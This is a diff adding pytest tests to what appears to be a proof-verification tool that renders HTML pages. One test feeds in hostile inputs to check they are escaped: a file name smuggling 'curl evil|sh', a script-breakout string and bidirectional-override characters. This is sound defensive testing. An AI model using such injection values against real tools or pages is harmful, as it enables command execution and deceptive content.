@@ -14,9 +14,11 @@ from pathlib import Path
 
 import pytest
 
+from teeproof.cli import export
 from teeproof.cli.demo_proof import tell
 from teeproof.core.clock import wall_clock
 from teeproof.core.digests import sha256
+from teeproof.core.errors import Malformed
 from teeproof.evidence.nitro.chain import AWS_NITRO_ROOT
 from teeproof.evidence.policy import parse_policy
 from teeproof.evidence.policy_values import AMD_ROOTS, INTEL_ROOT
@@ -28,6 +30,7 @@ from teeproof.proof.file.zipwrite import ZipWriter
 from teeproof.proof.log.formats.policy import TlogPolicy
 from teeproof.proof.verify import Trust, verify_proof
 from teeproof.proof.workload import Identity
+from tests.explorer import forging
 from tests.explorer.checking import HARNESS, of, results, rewritten
 from tests.explorer.checking import trusted as believed
 from tests.explorer.chromium import dump
@@ -82,6 +85,45 @@ def test_a_proof_holds_from_a_file_with_the_network_off(tmp_path, proof, policy,
     assert "the quorum cosigned" in document
     assert "Not checked here</summary>" in document
     assert "TCB and revocation" in document
+
+
+@pytest.mark.parametrize(
+    "spoil", [lambda text: text[:-1], lambda text: text + "quorum none\n",
+              lambda text: text.replace("+", "+0", 1)],
+    ids=["cut short", "two quorums", "a key that is none"],
+)  # fmt: skip
+def test_a_log_policy_that_is_none_is_not_the_proofs_fault(tmp_path, proof, policy, logs, spoil):
+    """It is the reader's own trust: nothing is known of the file, and nothing is wrong with it."""
+    with pytest.raises(Malformed):
+        TlogPolicy.parse(spoil(logs))
+    document = opened(tmp_path, made(proof, policy, spoil(logs)))
+    assert ANSWER.search(document)[1] == "not_checked"
+    assert "CANNOT TELL: the log policy that this page trusts cannot be read" in document
+
+
+def test_a_witness_whose_name_is_no_utf_8_breaks_no_page(tmp_path, told, logs):
+    (tmp_path / "logs").write_bytes(logs.encode().replace(b"w1", b"w\xff"))
+    file = next(told.glob("*.proof"))
+    text = export._page(file, policy=str(told / "policy.toml"), logs=tmp_path / "logs")
+    assert "witness w\\xff one.example" in text
+    assert ANSWER.search(opened(tmp_path, text))[1] == "simulated"
+
+
+def test_stranger_names_a_file_and_a_step_to_mislead_whoever_opens_the_page(tmp_path):
+    name, step = "x;curl evil|sh\udcff\u202e.proof", "</script><!--\u202e\u2066sdloH ✓"
+    who = forging.workload()
+    data = forging.proof_of(
+        [forging.dumps(forging.body_of(who, predicate={"author": who.name, "step": step}))], who
+    )
+    text = page(data, name=name, title=f"Proof of {step}")
+    assert "\u202e" not in text
+    assert "\u2066" not in text
+    assert text.count("<script") == 2
+    assert "<pre>teeproof verify &#x27;x;curl evil|sh\\udcff\\u202e.proof&#x27;</pre>" in text
+    assert "teeproof verify ./-x.proof" in page(data, name="-x.proof", title="x")
+    document = opened(tmp_path, text)
+    assert "\u202e" not in document
+    assert "\\u{202e}\\u{2066}sdloH" in document  # in the list of what was checked
 
 
 def test_a_root_that_nobody_accepted_is_refused(tmp_path, proof, logs):
